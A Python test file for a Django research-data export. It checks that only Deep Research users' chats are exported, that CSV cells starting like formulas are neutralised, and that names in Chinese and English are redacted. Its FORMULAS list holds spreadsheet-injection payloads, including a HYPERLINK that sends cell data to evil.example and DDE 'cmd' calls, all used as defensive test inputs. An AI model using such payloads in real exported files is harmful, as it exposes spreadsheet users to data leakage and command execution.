"""What an export holds follows the consent text: only learners who used Deep Research in the
period; CSV cells a spreadsheet would run as formulas are neutralised; names are redacted in both
languages, including people outside the study's channels."""

from __future__ import annotations

import csv
import json
from datetime import timedelta

from django.contrib.auth import get_user_model

from channels_app.models import Channel, ChatLog, Membership
from research.models import ResearchTask
from tests.governance.test_export import _at, _export, study  # noqa: F401  (fixture)
from tests.support.factories import add_member, make_user

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_chat_of_students_who_never_used_deep_research_is_not_exported(study, tmp_path):
    p = study
    carol = add_member(p.channel, make_user("s_carol"))
    row = ChatLog.objects.create(
        channel=p.channel, user=carol, kind="request", content="CAROL-ONLY 只用一般聊天"
    )
    _at(p.day, ChatLog, row.pk)
    out = _export(p, tmp_path / "x", fmt="jsonl")
    assert "CAROL-ONLY" not in (out / "chat_logs.jsonl").read_text()
    # Bob's ordinary chat counts: he used Deep Research in the period.
    assert "BOB-ONLY" in (out / "chat_logs.jsonl").read_text()
    manifest_notes = " ".join(json.loads((out / "manifest.json").read_text())["notes"])
    assert "used Deep Research" in manifest_notes


def test_csv_cells_that_start_like_formulas_are_neutralised(study, tmp_path):
    p = study
    for i, text in enumerate(FORMULAS):
        task = ResearchTask.objects.create(
            user=p.student,
            channel=p.channel,
            user_question=text,
            trigger_mode="forced",
            status="completed",
            final_answer=text,
        )
        _at(p.day + timedelta(minutes=10 + i), ResearchTask, task.pk)
    out = _export(p, tmp_path / "x")
    questions = [r["question"] for r in _rows(out / "tasks.csv")]
    for text in FORMULAS:
        assert "'" + text in questions, text
        assert text not in questions
    assert not any(q[:1] in "=+-@\t\r" for q in questions)
    exact = [json.loads(line)["question"] for line in (out / "tasks.jsonl").read_text().splitlines()]
    assert set(FORMULAS) <= set(exact)  # JSONL keeps the exact text


def test_names_are_redacted_in_both_languages_inside_and_outside_the_studys_channels(study, tmp_path):
    p = study
    User = get_user_model()
    User.objects.filter(pk=p.student.pk).update(first_name="小明", last_name="王")
    User.objects.filter(pk=p.other_student.pk).update(first_name="Wei-Ting", last_name="Li")
    outside = make_user("s_meiling")
    User.objects.filter(pk=outside.pk).update(first_name="美玲", last_name="陳")
    Membership.objects.create(user=outside, channel=Channel.objects.get(slug="course-b"), role="student")
    User.objects.filter(pk=p.teacher.pk).update(first_name="安", last_name="林")
    text = (
        "王小明和 Wei-Ting Li 一起問了林安老師；Li Wei-Ting 說 Prof. Ho 與 Dr Chen-Yu Wu 也同意，"
        "另一班的陳美玲也是，黃大偉同學沒來。Lin 與 TA 不是名字。"
    )
    task = ResearchTask.objects.create(
        user=p.student,
        channel=p.channel,
        user_question=text,
        trigger_mode="forced",
        status="completed",
        final_answer="ok",
    )
    _at(p.day + timedelta(minutes=30), ResearchTask, task.pk)
    out = _export(p, tmp_path / "x", fmt="jsonl")
    data = (out / "tasks.jsonl").read_text()
    for name in ("王小明", "小明", "Wei-Ting", "林安", "Prof. Ho", "Chen-Yu", "陳美玲", "黃大偉", " Li "):
        assert name not in data, name
    question = next(json.loads(line)["question"] for line in data.splitlines() if "一起問了" in line)
    assert question.count("[PERSON]") >= 7 and "Lin 與 TA 不是名字" in question
